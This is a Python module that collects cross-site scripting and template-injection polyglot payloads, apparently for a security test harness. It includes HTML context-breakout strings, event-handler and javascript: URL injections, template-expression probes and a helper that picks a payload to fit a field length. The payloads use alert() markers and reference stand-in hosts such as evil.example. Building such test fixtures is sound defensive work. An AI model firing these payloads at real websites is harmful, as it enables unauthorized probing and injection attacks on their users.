"""Texts that are a program wherever somebody forgot that they are only a text.

Each breaks out of HTML, of attributes, of a title, a text area, a script; the numbers would be multiplied by a
template that is rendered twice. Shorter ones for short fields.
"""

PRODUCT = "13370357"
"""It stands on a page only if a template has reckoned out ``SUM``."""
SUM = "{{1001*13357}}{%now 'Y'%}${1001*13357}#{1001*13357}"
BREAKOUT = "'\"></title></textarea></script></style>-->"
POLYGLOTS = [
    BREAKOUT + "<svg/onload=alert(1)>" + SUM,
    BREAKOUT + "<img src=x onerror=alert(2)>" + SUM,
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(3) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert(3)//>\\x3e",
    "\" autofocus onfocus=alert(4) x=\"' onmouseover=alert(4) y='" + SUM,
    "</script><script>alert(5)</script><!--<script>" + SUM,
    "<iframe srcdoc='<script>parent.alert(6)</script>'></iframe><math><a xlink:href=javascript:alert(6)>x" + SUM,
    "';alert(7)//\\';alert(7)//\u2028alert(7)//--></script>" + SUM,
    "<svg><script href=data:,alert(8)></script><animate onbegin=alert(8) attributeName=x>" + SUM,
    "<details open ontoggle=alert(9)><style>@import'//evil.example'</style><base href=//evil.example/>" + SUM,
    "<a href=javascript:alert(10)>x</a><form action=javascript:alert(10)><button>x" + SUM,
]
SHORT = ['"><svg/onload=alert(1)>', "<img/src/onerror=alert(2)>", "'-alert(3)-'", "</script><b onclick=x()>"]
TINY = "\"'><b id=x>"
ADDRESS = '"<svg/onload=alert(1)>"@angriff.example'
"""A valid e-mail address (RFC 5321, quoted local part)."""
LINK = "https://angriff.example/\"'><svg/onload=alert(1)>"
SCRIPT_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "//angriff.example/",
]


def polyglot(number: int, longest: int | None = None) -> str:
    """The ``number``-th (they repeat) that fits into ``longest`` characters."""
    for texts in (POLYGLOTS, SHORT):
        fitting = [text for text in texts if longest is None or len(text) <= longest]
        if fitting:
            return fitting[number % len(fitting)]
    return TINY[: longest or None]
